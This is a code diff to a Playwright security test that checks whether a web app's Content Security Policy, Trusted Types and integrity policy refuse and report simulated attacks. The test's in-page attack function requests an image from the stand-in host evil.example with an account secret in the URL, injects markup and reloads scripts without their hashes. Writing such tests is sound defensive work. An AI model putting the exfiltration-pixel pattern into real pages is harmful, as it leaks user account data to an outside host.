@@ -36,11 +36,12 @@ for (const [how, front] of Object.entries(fronts)) {
     await page.goto(`${url}auth/login?token=SECRET`);
     await expect(page.getByRole('heading', { name: 'Welcome Back' })).toBeVisible();
 
-    await page.evaluate(attack);
+    const scripts = await page.evaluate(attack);
+    expect(scripts).toEqual({ 'of the shell': 'refused', 'of a remote': 'refused' });
 
     const violations = async () => (await (await page.request.get(`${url}health`)).json()).violations;
     const rules = async () => (await violations()).latest.map(({ rule }: { rule: string }) => rule).sort();
-    const refused = ['img-src', 'integrity-policy', 'require-trusted-types-for'];
+    const refused = ['img-src', 'integrity-policy', 'integrity-policy', 'require-trusted-types-for'];
     await expect.poll(rules, { timeout: 30_000 }).toEqual(refused);
     expect(JSON.stringify(await violations())).not.toContain('SECRET');
     await openPlatform(page, url);
@@ -48,11 +49,12 @@ for (const [how, front] of Object.entries(fronts)) {
     await expect(reported.getByRole('row', { name: /^img-src https:\/\/evil\.example \/auth\/\*/ })).toBeVisible();
     await expect(reported.getByRole('row', { name: /^require-trusted-types-for Element innerHTML/ })).toBeVisible();
     await expect(reported.getByRole('row', { name: /^integrity-policy shell\/.+\.js/ })).toBeVisible();
+    await expect(reported.getByRole('row', { name: /^integrity-policy mfe-auth\/.+\.js/ })).toBeVisible();
   });
 }
 
-/** In the page: a foreign picture, text as markup, a script without its hash. */
-async function attack(): Promise<void> {
+/** In the page: a foreign picture, text as markup, scripts without their hashes. The shell's is preloaded with its hash. */
+async function attack(): Promise<Record<string, string>> {
   const picture = new Image();
   picture.src = 'https://evil.example/pixel.png?account=SECRET';
   try {
@@ -60,12 +62,18 @@ async function attack(): Promise<void> {
   } catch {
     // Refused, as expected.
   }
-  const script = document.createElement('script');
-  script.src = document.querySelector<HTMLScriptElement>('script[integrity]')?.src ?? '';
-  await new Promise((resolve) => {
-    script.onload = script.onerror = resolve;
-    document.head.append(script);
-  });
+  const load = (selector: string) =>
+    new Promise<string>((resolve) => {
+      const script = document.createElement('script');
+      script.src = document.querySelector<HTMLScriptElement>(selector)?.src ?? '';
+      script.onload = () => resolve('ran');
+      script.onerror = () => resolve('refused');
+      document.head.append(script);
+    });
+  return {
+    'of the shell': await load('script[integrity][src*="/shell/"]'),
+    'of a remote': await load('script[integrity][src*="/mfe-auth/"]'),
+  };
 }
 
 async function openPlatform(page: Page, url: string): Promise<void> {
